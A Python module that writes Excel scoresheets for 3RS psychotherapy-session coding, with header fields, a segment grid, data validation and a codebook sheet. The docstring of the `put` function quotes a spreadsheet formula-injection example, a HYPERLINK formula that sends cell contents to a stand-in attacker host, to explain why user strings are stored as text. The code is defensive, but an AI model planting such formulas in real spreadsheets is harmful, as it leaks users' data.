"""Where things are on the Excel 3RS scoresheet, and writing one (blank or filled).

One session per file, laid out as a coder works: a header block (column A labels, column B values),
then segments as rows labelled by minutes and the codes as columns grouped by family under coloured family
headers, each cell limited to blank / ✓ / ✓- by Excel data validation; below the grid the significance row
(one cell under each code) and the four global items, limited to whole numbers 1-5. A second sheet holds
the codebook definitions and the anchor text of every rating scale. The reader (`scoresheet_xlsx`) finds
every block by the labels in column A and the code keys in the key row, not by fixed row numbers.
"""

from __future__ import annotations

import io
from dataclasses import dataclass

from openpyxl import Workbook
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

from rrrs_core import codebook as cb
from rrrs_core import palette
from rrrs_core.coding_edit import SIGNS, CodingDraft

SHEET = "Scoresheet"
CODEBOOK_SHEET = "Codebook"
TITLE = "3RS scoresheet"
HEADER_ROW = 3
# (field, label on the sheet, required); values go in column B.
HEADER_FIELDS: tuple[tuple[str, str, bool], ...] = (
    ("dyad_id", "Dyad", True),
    ("therapist_id", "Therapist", True),
    ("patient_id", "Patient", False),
    ("treatment", "Treatment", False),
    ("session_number", "Session number", True),
    ("session_date", "Session date", False),
    ("coder_id", "Coder", True),
    ("segment_minutes", "Segment length (minutes)", False),
    ("n_segments", "Number of segments", True),
    ("consensus", "Consensus coding (yes/no)", False),
    ("codebook", "Codebook", True),
)
SEGMENT_LABEL = "Segment"
KEY_LABEL = "code key"
SIGNIFICANCE_LABEL = "Significance"
GLOBALS_LABEL = "Global ratings"
NOTE_LABEL = "Note (time stamp or quote)"
FIRST_CODE_COL = 3  # C
MIN_ROWS = 12  # segment rows printed even for short sessions, so a coder can extend n_segments
MAX_SEGMENTS = 60

THIN = Side(style="thin", color="BBBBBB")
BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
BOLD = Font(bold=True)
GREY = Font(color="777777", size=8)
CENTER = Alignment(horizontal="center", vertical="center")


@dataclass(frozen=True)
class Layout:
    """Row and column positions of one written scoresheet (the reader does not rely on these)."""

    book: cb.Codebook
    n_rows: int

    @property
    def family_row(self) -> int:
        return HEADER_ROW + len(HEADER_FIELDS) + 3

    @property
    def label_row(self) -> int:
        return self.family_row + 1

    @property
    def key_row(self) -> int:
        return self.family_row + 2

    @property
    def first_segment_row(self) -> int:
        return self.family_row + 3

    @property
    def significance_row(self) -> int:
        return self.first_segment_row + self.n_rows

    @property
    def globals_row(self) -> int:
        return self.significance_row + 2

    @property
    def note_col(self) -> int:
        return FIRST_CODE_COL + len(self.book.codes)

    def code_col(self, key: str) -> int:
        return FIRST_CODE_COL + self.book.keys.index(key)


def header_values(d: CodingDraft) -> dict[str, object]:
    return {"dyad_id": d.dyad_id, "therapist_id": d.therapist_id, "patient_id": d.patient_id,
            "treatment": d.treatment, "session_number": d.session_number or None, "session_date": d.session_date,
            "coder_id": d.coder_id, "segment_minutes": d.segment_minutes, "n_segments": d.n_segments,
            "consensus": "yes" if d.consensus else "no", "codebook": f"{d.codebook_id} {d.codebook_version}"}


def put(ws, row: int, col: int, value: object):
    """Write a cell; text is always stored as text. openpyxl takes any string starting with '=' as a formula,
    so an id such as `=HYPERLINK("http://evil.example/?"&A1,"open")` would become a live formula in the
    coder's Excel: every value that came from a user goes through here."""
    cell = ws.cell(row, col)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def _validation(ws, kind: str, cells: str | list[str], error: str, prompt: str) -> DataValidation:
    if kind == "sign":
        dv = DataValidation(type="list", formula1=f'"{SIGNS["check"]},{SIGNS["check_minus"]}"', allow_blank=True)
    elif kind == "segments":
        dv = DataValidation(type="whole", operator="between", formula1="1", formula2=str(MAX_SEGMENTS),
                            allow_blank=True)
    else:
        dv = DataValidation(type="whole", operator="between", formula1="1", formula2="5", allow_blank=True)
    dv.showErrorMessage, dv.showInputMessage = True, True
    dv.errorTitle, dv.error, dv.prompt = "3RS scoresheet", error, prompt
    ws.add_data_validation(dv)
    for ref in [cells] if isinstance(cells, str) else cells:
        dv.add(ref)
    return dv


def _header(ws, d: CodingDraft) -> None:
    ws.cell(1, 1, TITLE).font = Font(bold=True, size=14)
    ws.cell(1, 3, d.book.title).font = GREY
    values = header_values(d)
    for i, (fld, label, required) in enumerate(HEADER_FIELDS):
        row = HEADER_ROW + i
        ws.cell(row, 1, label + (" *" if required else "")).font = BOLD if required else Font()
        cell = put(ws, row, 2, values[fld])
        cell.border = BOX
        if fld == "session_date":
            cell.number_format = "yyyy-mm-dd"
    r = {fld: HEADER_ROW + i for i, (fld, _, _) in enumerate(HEADER_FIELDS)}
    _validation(ws, "segments", [f"B{r['n_segments']}", f"B{r['segment_minutes']}"], "A whole number from 1 to 60.",
                "1-60")
    ws.cell(r["n_segments"], 3, "1-60; segments are rows below").font = GREY
    ws.cell(r["session_date"], 3, "YYYY-MM-DD").font = GREY
    ws.cell(HEADER_ROW + len(HEADER_FIELDS), 1, "* required").font = GREY


def _grid(ws, d: CodingDraft, lay: Layout) -> None:
    book = d.book
    ws.cell(lay.family_row - 1, 1, "Mark ✓ when a marker or strategy meets criteria, ✓- when it is unclear; "
            "leave blank otherwise. After the whole session rate significance and the global ratings (1-5); "
            "a code never marked counts as 1. Definitions: sheet 'Codebook'.").font = Font(italic=True, size=9)
    for fam in cb.FAMILIES:
        codes = book.family(fam)
        if not codes:
            continue
        first, last = lay.code_col(codes[0].key), lay.code_col(codes[-1].key)
        fill = PatternFill("solid", fgColor=palette.FAMILY_COLOURS[fam].lstrip("#"))
        ws.merge_cells(start_row=lay.family_row, start_column=first, end_row=lay.family_row, end_column=last)
        head = ws.cell(lay.family_row, first, fam.capitalize() + (" markers" if fam != "resolution" else
                                                                   " strategies"))
        head.font, head.alignment = Font(bold=True, color="FFFFFF"), CENTER
        for col in range(first, last + 1):
            ws.cell(lay.family_row, col).fill = fill
            ws.cell(lay.key_row, col).fill = fill
    ws.cell(lay.label_row, 1, SEGMENT_LABEL).font = BOLD
    ws.cell(lay.label_row, 2, "Minutes").font = BOLD
    ws.cell(lay.key_row, 1, KEY_LABEL).font = GREY
    for code in book.codes:
        col = lay.code_col(code.key)
        label = ws.cell(lay.label_row, col, code.label)
        label.alignment = Alignment(text_rotation=90, wrap_text=True, horizontal="center", vertical="bottom")
        label.font = Font(bold=True, size=9)
        ws.cell(lay.key_row, col, code.key).font = Font(color="FFFFFF", size=6)
        ws.column_dimensions[get_column_letter(col)].width = 5.5
    ws.cell(lay.label_row, lay.note_col, NOTE_LABEL).font = BOLD
    ws.cell(lay.key_row, lay.note_col, "note").font = GREY
    ws.column_dimensions[get_column_letter(lay.note_col)].width = 40
    ws.row_dimensions[lay.label_row].height = 190
    for i in range(lay.n_rows):
        seg, row = i + 1, lay.first_segment_row + i
        ws.cell(row, 1, seg).alignment = CENTER
        ws.cell(row, 2, d.segment_label(seg)).alignment = CENTER
        for code in book.codes:
            cell = ws.cell(row, lay.code_col(code.key), SIGNS.get(d.marks.get((seg, code.key), ""), None))
            cell.border, cell.alignment = BOX, CENTER
        put(ws, row, lay.note_col, d.segment_notes.get(seg)).border = BOX
    first, last = get_column_letter(FIRST_CODE_COL), get_column_letter(lay.note_col - 1)
    _validation(ws, "sign", f"{first}{lay.first_segment_row}:{last}{lay.significance_row - 1}",
                "Use ✓ (meets criteria) or ✓- (unclear), or leave the cell blank.", "✓ or ✓- or blank")
    ws.freeze_panes = ws.cell(lay.first_segment_row, FIRST_CODE_COL)


def _ratings(ws, d: CodingDraft, lay: Layout) -> None:
    book = d.book
    ws.cell(lay.significance_row, 1, SIGNIFICANCE_LABEL).font = BOLD
    ws.cell(lay.significance_row, 2, "1-5").font = GREY
    for code in book.codes:
        cell = ws.cell(lay.significance_row, lay.code_col(code.key), d.ratings.get(code.key))
        cell.border, cell.alignment = Border(left=THIN, right=THIN, top=Side(style="medium"), bottom=THIN), CENTER
    first, last = get_column_letter(FIRST_CODE_COL), get_column_letter(lay.note_col - 1)
    _validation(ws, "rating", f"{first}{lay.significance_row}:{last}{lay.significance_row}",
                "Significance is a whole number from 1 to 5.", "1 none ... 5 high")
    ws.cell(lay.globals_row, 1, GLOBALS_LABEL).font = BOLD
    ws.cell(lay.globals_row, 2, "1-5").font = GREY
    for i, item in enumerate(book.global_items):
        row = lay.globals_row + 1 + i
        ws.cell(row, 1, item.label)
        ws.cell(row, 2, d.ratings.get(item.key)).border = BOX
        ws.cell(row, 3, item.help + "  " + " | ".join(f"{v}: {item.scale.anchor(v).split(':')[0]}"
                                                      for v in range(1, 6))).font = GREY
    _validation(ws, "rating", f"B{lay.globals_row + 1}:B{lay.globals_row + len(book.global_items)}",
                "A global rating is a whole number from 1 to 5.", "1-5")


def _codebook_sheet(wb: Workbook, book: cb.Codebook) -> None:
    ws = wb.create_sheet(CODEBOOK_SHEET)
    ws.append([book.title])
    ws.append([])
    ws.append(["family", "code key", "label", "definition (✓ meets criteria)", "✓- (unclear) when"])
    for c in ws[3]:
        c.font = BOLD
    for code in book.codes:
        ws.append([code.family, code.key, code.label, code.definition, code.check_minus])
        ws.cell(ws.max_row, 1).font = Font(bold=True, color=palette.FAMILY_COLOURS[code.family].lstrip("#"))
    ws.append([])
    ws.append(["rating", "item key", "value", "anchor (3RS manual, Global Ratings)"])
    for c in ws[ws.max_row]:
        c.font = BOLD
    scales = [("Significance of each code", "<code key>", book.significance)]
    scales += [(g.label, g.key, g.scale) for g in book.global_items]
    for label, key, scale in scales:
        for v in range(1, 6):
            ws.append([label, key, v, scale.anchor(v)])
    for col, width in zip("ABCDE", (16, 26, 40, 90, 60), strict=True):
        ws.column_dimensions[col].width = width
    for row in ws.iter_rows(min_row=4):
        for c in row:
            c.alignment = Alignment(wrap_text=True, vertical="top")


def write(d: CodingDraft) -> bytes:
    """The scoresheet workbook for a draft (blank marks and ratings give a blank template)."""
    lay = Layout(d.book, min(MAX_SEGMENTS, max(int(d.n_segments or 0), MIN_ROWS, *(s for s, _ in d.marks))))
    wb = Workbook()
    ws = wb.active
    ws.title = SHEET
    ws.column_dimensions["A"].width = 27
    ws.column_dimensions["B"].width = 16
    _header(ws, d)
    _grid(ws, d, lay)
    _ratings(ws, d, lay)
    _codebook_sheet(wb, d.book)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
